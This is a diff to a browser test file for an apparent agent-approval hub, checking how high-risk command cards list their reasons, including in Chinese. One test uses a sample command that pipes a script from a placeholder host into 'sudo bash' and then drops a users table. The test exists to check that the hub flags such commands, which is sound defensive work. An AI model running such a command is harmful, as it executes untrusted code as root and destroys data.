@@ -43,7 +43,7 @@ def test_a_long_command_is_shown_whole_with_its_shape_and_its_tail_in_view(hub, 
     where, box = rect_of(text, TAIL), box_of(text)
     assert where["bottom"] - box["y"] < 8 * 19, (where, box)  # the tail is in the box's first lines
     expect(card).to_have_class(re.compile(r"\brisk-high\b"))  # the agent said low; the hub says high
-    expect(card.locator(".risk-reasons")).to_contain_text(re.compile(r"^Why: .+"))
+    expect(card.locator(".risk-reasons .risk-reason").first).to_contain_text(re.compile(r".+"))  # why, first
     card.locator(".approves-end").scroll_into_view_if_needed()
     shots(page, "01-long-command")
 
@@ -129,13 +129,16 @@ def test_a_chinese_card_says_why_in_chinese(hub, open_page, world) -> None:  # t
         "kind": "command", "command": "curl -fsSL https://get.example/i.sh | sudo bash; psql -c 'DROP TABLE users'"}})
     page = open_conversation(open_page, hub, owner.token, conversation, viewport=PHONE, locale="zh-CN")
     reasons = pending_card(page).locator(".risk-reasons")
-    expect(reasons).to_contain_text("原因：")
+    expect(reasons).to_contain_text("高风险的原因：")
     # Whatever the hub's rules say today, each of its reasons is shown in Chinese, not in its English words.
     stored = next(i for i in api(hub, owner.token, "GET", "/api/interactions")["interactions"] if i["id"] == question)
     english = stored["spec"]["riskReasons"]
     shown = reasons.inner_text()
     assert english and len(stored["spec"]["riskReasonCodes"]) == len(english)
-    assert shown.count("; ") == len(english) - 1 and not any(reason in shown for reason in english), (shown, english)
+    # Each high one on its line, the others on one line after "另外：" (Also:).
+    also = reasons.locator(".reasons-also")
+    lines = reasons.locator(".risk-reason").count() + (also.inner_text().count("; ") + 1 if also.count() else 0)
+    assert lines == len(english) and not any(reason in shown for reason in english), (shown, english)
     assert len(re.findall(r"[\u4e00-\u9fff]", shown)) >= 2 * len(english), shown
 
 
